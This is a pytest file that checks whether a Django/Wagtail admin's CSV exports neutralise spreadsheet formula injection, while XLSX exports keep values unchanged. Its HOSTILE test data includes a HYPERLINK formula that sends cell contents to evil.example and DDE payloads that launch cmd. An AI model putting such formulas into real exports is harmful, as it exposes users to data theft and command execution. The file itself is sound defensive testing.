"""CSV exports neutralise spreadsheet formulas (OWASP's CSV injection rule), XLSX unchanged."""

import csv
import io

import openpyxl
import pytest
from django.apps import apps

from cma_wagtail.exports import neutralise_formula

HOSTILE = {
    "hyperlink": '=HYPERLINK("https://evil.example/?d="&A1;"Cliquez")',
    "dde": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.mark.parametrize("value", [*HOSTILE.values(), "+33381000002"])
def test_a_formula_or_a_phone_becomes_text(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["Trimadel", "25000", "", " =1", "-", 42, -3, None])
def test_other_values_are_unchanged(value):
    assert neutralise_formula(value) == value


def read_csv(response) -> list[dict]:
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(content), delimiter=";"))


def read_xlsx(response) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.fixture
def admin_client(client, db):
    from tests.factories import SuperUserFactory

    client.force_login(SuperUserFactory())
    return client


@pytest.mark.skipif(not apps.is_installed("cma_wagtail.callbacks"), reason="callbacks")
def test_callbacks_inbox_export(admin_client):
    from tests.factories import CallbackRequestFactory

    CallbackRequestFactory(
        name=HOSTILE["hyperlink"],
        business_name=HOSTILE["dde"],
        message=HOSTILE["at"],
        trade=HOSTILE["tab"],
        phone="+33381000002",
    )
    url = "/admin/cma_callbacks/callbackrequest/"
    [row] = read_csv(admin_client.get(url + "?export=csv"))
    assert row["Nom"] == "'" + HOSTILE["hyperlink"]
    assert row["Nom de l'entreprise"] == "'" + HOSTILE["dde"]
    assert row["Message"] == "'" + HOSTILE["at"]
    assert row["Métier"] == "'" + HOSTILE["tab"]
    assert row["Téléphone"] == "'+33381000002"
    [_header, cells] = read_xlsx(admin_client.get(url + "?export=xlsx"))
    assert HOSTILE["hyperlink"] in cells and "+33381000002" in cells


@pytest.mark.skipif(not apps.is_installed("cma_wagtail.trainings"), reason="trainings")
def test_trainings_registrations_export(admin_client):
    from tests.factories import RegistrationFactory

    RegistrationFactory(
        last_name=HOSTILE["hyperlink"],
        first_name=HOSTILE["at"],
        business_name=HOSTILE["dde"],
        trade=HOSTILE["cr"],
        phone="+33612345678",
    )
    url = "/admin/cma_trainings/registration/"
    response = admin_client.get(url, {"export": "csv"})
    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig")), delimiter=";"))
    record = dict(zip(rows[0], rows[1], strict=True))
    values = set(record.values())
    for value in (HOSTILE["hyperlink"], HOSTILE["at"], HOSTILE["dde"], HOSTILE["cr"]):
        assert "'" + value in values and value not in values
    assert "'+33612345678" in values
    response = admin_client.get(url, {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    cells = [cell.value for cell in sheet[2]]
    assert HOSTILE["hyperlink"] in cells and "+33612345678" in cells
